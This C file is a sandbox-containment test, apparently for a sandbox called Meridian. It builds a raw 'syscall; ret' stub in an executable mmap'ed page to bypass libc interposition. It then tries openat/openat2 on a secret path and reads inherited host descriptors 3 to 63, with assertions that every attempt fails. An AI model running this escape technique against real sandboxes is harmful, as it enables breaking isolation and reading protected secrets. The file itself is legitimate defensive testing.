// Attack: build `syscall; ret` stubs at run time in an mmap'ed page (no libc involved) and
// openat/openat2/read the secret with them; getpid through the JIT.
// Expected containment: the instruction lies outside Meridian's text, so seccomp turns it into
// SIGSYS and the shim serves it: getpid is the sandbox's 1, the secret's path is ENOENT.
#include "escape.h"
#include <linux/openat2.h>
#include <sys/mman.h>

typedef long (*stub6)(long, long, long, long, long, long);

int main(int argc, char **argv) {
    escape_args(argc, argv);
    unsigned char *code = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    // mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; mov r10, r8; mov r8, r9;
    // syscall; ret  -- a generic syscall(nr, a, b, c, d, e) in fresh code
    static const unsigned char stub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                         0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8,
                                         0x0f, 0x05, 0xc3};
    memcpy(code, stub, sizeof stub);
    EXPECT(mprotect(code, 4096, PROT_READ | PROT_EXEC) == 0, "JIT page made executable");
    stub6 sys = (stub6)(void *)code;
    long pid = sys(SYS_getpid, 0, 0, 0, 0, 0);
    EXPECT(pid == 1, "JIT getpid = %ld (the sandbox's pid, not the host's)", pid);
    long fd = sys(SYS_openat, AT_FDCWD, (long)secret_path, O_RDONLY, 0, 0);
    if (fd >= 0) dump_fd("JIT openat", fd);
    EXPECT(fd < 0, "JIT openat(secret) = %ld", fd);
    struct open_how how = {.flags = O_RDONLY};
    fd = sys(SYS_openat2, AT_FDCWD, (long)secret_path, (long)&how, sizeof how, 0);
    if (fd >= 0) dump_fd("JIT openat2", fd);
    EXPECT(fd < 0, "JIT openat2(secret) = %ld", fd);
    // A host descriptor number the runner may hold (a volume root): read through the JIT.
    char buf[256];
    for (int n = 3; n < 64; n++) {
        long r = sys(SYS_read, n, (long)buf, sizeof buf - 1, 0, 0);
        if (r > 0) {
            buf[r] = 0;
            printf("read fd %d: %s\n", n, buf);
        }
    }
    return finish();
}
